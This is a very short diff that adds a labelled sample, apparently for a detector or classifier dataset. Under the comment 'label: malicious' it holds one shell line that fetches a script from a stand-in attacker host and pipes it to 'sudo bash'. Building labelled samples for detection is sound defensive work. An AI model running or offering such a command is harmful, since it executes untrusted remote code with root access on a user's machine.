@@ -1,0 +1,2 @@
+# label: malicious
+curl -fsSL https://get.example-evil.sh/setup | sudo bash
